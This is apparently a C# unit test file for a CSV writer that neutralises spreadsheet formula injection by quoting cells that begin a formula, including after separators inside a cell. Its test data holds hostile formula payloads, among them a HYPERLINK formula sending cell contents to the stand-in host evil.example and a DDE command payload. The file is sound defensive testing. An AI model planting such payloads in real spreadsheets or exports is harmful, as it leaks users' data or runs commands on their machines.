using System.Globalization;
using System.Text;
using CsvHelper;
using CsvHelper.Configuration;
using Rapport.Formats.Csv;

namespace Rapport.UnitTests.Formats.Csv;

public class SpreadsheetCsvTests
{
    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1+1")]
    [InlineData("-1+1")]
    [InlineData("@SUM(1,1)")]
    [InlineData("=HYPERLINK(\"https://evil.example/?d=\"&A2&B2,\"Click\")")]
    [InlineData("=cmd|' /C calc'!A0")]
    public void Formula_payloads_get_a_leading_quote(string payload) =>
        Assert.Equal("'" + payload, SpreadsheetCsv.Neutralise(payload));

    [Fact]
    public void A_phone_number_starting_with_plus_gets_the_quote_too() =>
        // Safety first: "+1 ..." is a formula to Excel, so a real phone number is shown as '+1 (555) 010-0000.
        Assert.Equal("'+1 (555) 010-0000", SpreadsheetCsv.Neutralise("+1 (555) 010-0000"));

    [Fact]
    public void A_leading_space_is_left_alone_because_spreadsheets_only_read_a_formula_from_the_first_character() =>
        // Excel, LibreOffice and Google Sheets all treat " =1+1" as text; OWASP's rule checks only the first character.
        Assert.Equal(" =1+1", SpreadsheetCsv.Neutralise(" =1+1"));

    [Theory]
    [InlineData(null, "")]
    [InlineData("", "")]
    [InlineData("Ada Lovelace", "Ada Lovelace")]
    [InlineData("A\0da", "Ada")]
    [InlineData("\0=1+1", "'=1+1")]
    public void Nul_characters_are_removed_before_the_check(string? cell, string expected) =>
        Assert.Equal(expected, SpreadsheetCsv.Neutralise(cell));

    [Theory]
    [InlineData("Acme;=1+5;x", "Acme;'=1+5;x")]
    [InlineData("Acme,=1+5", "Acme,'=1+5")]
    [InlineData("Acme\t+1", "Acme\t'+1")]
    [InlineData("line one\n-1+1", "line one\n'-1+1")]
    [InlineData("line one\r\n@SUM(1,1)", "line one\r\n'@SUM(1,1)")]
    [InlineData("\t=1+1", "'\t'=1+1")]
    [InlineData("\r=1+1", "'\r'=1+1")]
    [InlineData("a;\t=1", "a;'\t'=1")]
    [InlineData("a;\"=1\"", "a;'\"=1\"")]
    [InlineData("=a;=b", "'=a;'=b")]
    [InlineData("Curator; research, design", "Curator; research, design")]
    [InlineData("a; =1", "a; =1")]
    [InlineData("2024-03-15", "2024-03-15")]
    public void A_formula_start_after_a_separator_inside_a_cell_gets_the_quote_too(string cell, string expected) =>
        Assert.Equal(expected, SpreadsheetCsv.Neutralise(cell));

    [Fact]
    public void A_cell_holding_a_semicolon_or_a_tab_is_quoted()
    {
        var csv = Write(["Company", "Note"], [["Acme;=1+5;x", "a\tb"]]);

        Assert.Equal("\uFEFFCompany,Note\r\n\"Acme;'=1+5;x\",\"a\tb\"\r\n", csv);
    }

    [Fact]
    public void Python_splitting_on_commas_semicolons_or_tabs_finds_no_cell_that_starts_a_formula()
    {
        string[] payloads =
        [
            "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
            "Acme;=1+5;x", "Acme,=1+5", "Acme\t=1+5", "a;+1", "a;-1", "a;@x", "a;\t=1", "a;\r=1", "a\t\t=1",
            "a;\"=1\"", "a;\"\"=1", "a,\"=1\"", "a\t\"@x", "\"=1+1\"", "note\n=1+1", "note\r\n-1", "note\r+1", "a\n\"=1",
            "=HYPERLINK(\"https://evil.example/?d=\"&A2&B2,\"Click; =1\")", "Ada", "", "plain; text, here",
        ];
        // Every payload in every column, beside every other, so a cell can begin at any seam between two of ours.
        var rows = payloads.SelectMany(p => payloads.Select(q => (IReadOnlyList<string?>)[p, q, "x"])).ToList();

        var read = PythonCsv.Read(Write(["A", "B", "C"], rows));

        Assert.Empty(read.Formulas("comma"));
        Assert.Empty(read.Formulas("semicolon"));
        Assert.Empty(read.Formulas("tab"));
        // Read with the comma, as written, each cell is the value as the spreadsheet shows it.
        Assert.Equal(rows.Select(r => r.Select(SpreadsheetCsv.Neutralise).ToArray()), read.Rows("comma").Skip(1));
    }

    [Fact]
    public void Output_is_rfc4180_with_crlf_quotes_only_where_needed_and_a_byte_order_mark()
    {
        var csv = Write(["Name", "Note"], [["Ada", "plain"], ["Lovelace, Ada", "says \"hi\"\nthere"], [null, ""]]);

        Assert.Equal("\uFEFFName,Note\r\nAda,plain\r\n\"Lovelace, Ada\",\"says \"\"hi\"\"\nthere\"\r\n,\r\n", csv);
    }

    [Fact]
    public void A_stream_writer_with_default_encoding_gives_exactly_one_utf8_byte_order_mark()
    {
        using var stream = new MemoryStream();
        using (var writer = new StreamWriter(stream, leaveOpen: true))
            SpreadsheetCsv.Write(writer, ["Name"], [["Müller"]]);

        var bytes = stream.ToArray();
        Assert.Equal([0xEF, 0xBB, 0xBF, (byte)'N'], bytes[..4]);
        Assert.Equal("Name\r\nMüller\r\n", Encoding.UTF8.GetString(bytes[3..]));
    }

    [Fact]
    public void Reading_the_output_back_gives_the_neutralised_values_one_record_per_row()
    {
        string?[][] rows =
        [
            ["=1+1", "Ada"],
            ["=HYPERLINK(\"https://evil.example/?d=\"&A2&B2,\"Click\")", "line one\r\nline two"],
            ["\r=1+1", "\t=1+1"],
            ["+1 (555) 010-0000", "a,b"],
        ];

        var csv = Write(["Formula", "Other"], rows);
        using var reader = new CsvReader(new StringReader(csv.TrimStart('\uFEFF')),
            new CsvConfiguration(CultureInfo.InvariantCulture) { HasHeaderRecord = false });
        var records = new List<string[]>();
        while (reader.Read()) records.Add(reader.Parser.Record!);

        Assert.Equal(5, records.Count);
        Assert.Equal(["Formula", "Other"], records[0]);
        for (var i = 0; i < rows.Length; i++)
            Assert.Equal(rows[i].Select(SpreadsheetCsv.Neutralise), records[i + 1]);
    }

    private static string Write(IReadOnlyList<string> header, IEnumerable<IReadOnlyList<string?>> rows)
    {
        using var writer = new StringWriter();
        SpreadsheetCsv.Write(writer, header, rows);
        return writer.ToString();
    }
}
